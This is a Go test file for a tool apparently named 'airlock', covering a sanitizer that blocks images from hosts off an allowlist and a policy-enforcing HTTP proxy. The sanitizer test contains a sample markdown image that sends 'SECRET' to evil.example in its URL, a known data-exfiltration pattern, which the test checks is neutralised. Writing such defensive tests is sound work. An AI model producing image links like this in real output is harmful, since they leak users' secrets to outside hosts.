@@ -1,0 +1,132 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+)
+
+func TestSanitizeCommand(t *testing.T) {
+	in := "ok ![a](https://docs.example.com/a.png) bad ![b](https://evil.example/?q=SECRET)\n"
+	var out, errb bytes.Buffer
+	code := Run(context.Background(), []string{"sanitize", "--allow", "docs.example.com", "--report"}, strings.NewReader(in), &out, &errb)
+	if code != exitOK {
+		t.Fatalf("exit %d: %s", code, errb.String())
+	}
+	want := "ok ![a](https://docs.example.com/a.png) bad ![b](about:blank#blocked)\n"
+	if out.String() != want {
+		t.Errorf("got %q, want %q", out.String(), want)
+	}
+	if !strings.Contains(errb.String(), `"host":"evil.example"`) || strings.Contains(errb.String(), "SECRET") {
+		t.Errorf("report: %s", errb.String())
+	}
+	out.Reset()
+	code = Run(context.Background(), []string{"sanitize", "--html"}, strings.NewReader(`<p><img src="https://evil.example/x"></p>`), &out, &errb)
+	if code != exitOK || out.String() != "<p><img></p>" {
+		t.Errorf("--html: %d %q", code, out.String())
+	}
+	if code := Run(context.Background(), []string{"sanitize", "--allow", "127.0.0.1"}, strings.NewReader(""), &out, &errb); code != exitUsage {
+		t.Errorf("IP literal allowlist: exit %d, want %d", code, exitUsage)
+	}
+}
+
+// syncBuffer is a bytes.Buffer safe for a writer and a poller.
+type syncBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (s *syncBuffer) Write(p []byte) (int, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.Write(p)
+}
+
+func (s *syncBuffer) String() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.String()
+}
+
+// TestProxyCommand runs `airlock proxy` with a policy and a hosts file and
+// sends requests through it to a loopback origin.
+func TestProxyCommand(t *testing.T) {
+	origin := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "hello") }))
+	defer origin.Close()
+	port := origin.URL[strings.LastIndexByte(origin.URL, ':')+1:]
+	dir := t.TempDir()
+	policy := filepath.Join(dir, "policy.yaml")
+	hosts := filepath.Join(dir, "hosts")
+	ca := filepath.Join(dir, "ca.pem")
+	os.WriteFile(policy, []byte("- host: origin.test\n  ports: ["+port+"]\n"), 0o644)
+	os.WriteFile(hosts, []byte("127.0.0.1 origin.test\n"), 0o644)
+
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	var stderr syncBuffer
+	done := make(chan int, 1)
+	go func() {
+		done <- Run(ctx, []string{"proxy", "--policy", policy, "--hosts", hosts, "--listen", "127.0.0.1:0", "--dns", "127.0.0.1:0", "--ca-out", ca}, strings.NewReader(""), io.Discard, &stderr)
+	}()
+	re := regexp.MustCompile(`HTTP proxy on (\S+)`)
+	var addr string
+	for i := 0; i < 500 && addr == ""; i++ {
+		if m := re.FindStringSubmatch(stderr.String()); m != nil {
+			addr = m[1]
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	if addr == "" {
+		t.Fatalf("proxy did not start: %s", stderr.String())
+	}
+	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: addr})}}
+	for method, want := range map[string]int{"GET": 200, "PUT": 403} {
+		req, _ := http.NewRequest(method, "http://origin.test:"+port+"/", nil)
+		resp, err := client.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != want {
+			t.Errorf("%s: %d, want %d", method, resp.StatusCode, want)
+		}
+	}
+	if pem, err := os.ReadFile(ca); err != nil || !bytes.Contains(pem, []byte("BEGIN CERTIFICATE")) {
+		t.Errorf("--ca-out: %v", err)
+	}
+	cancel()
+	if code := <-done; code != exitOK {
+		t.Errorf("exit %d", code)
+	}
+	if !strings.Contains(stderr.String(), `"verdict":"deny"`) || !strings.Contains(stderr.String(), `"method":"PUT"`) {
+		t.Errorf("decisions not logged: %s", stderr.String())
+	}
+}
+
+func TestProxyCommandBadPolicy(t *testing.T) {
+	dir := t.TempDir()
+	for name, body := range map[string]string{
+		"ip.json":      `[{"host":"127.0.0.1"}]`,
+		"unknown.json": `[{"host":"a.test","verbs":["GET"]}]`,
+		"unknown.yaml": "- host: a.test\n  verbs: [GET]\n",
+		"empty.yaml":   "",
+	} {
+		p := filepath.Join(dir, name)
+		os.WriteFile(p, []byte(body), 0o644)
+		var errb bytes.Buffer
+		if code := Run(context.Background(), []string{"proxy", "--policy", p, "--listen", "127.0.0.1:0"}, strings.NewReader(""), io.Discard, &errb); code != exitUsage {
+			t.Errorf("%s: exit %d, want %d (%s)", name, code, exitUsage, errb.String())
+		}
+	}
+}
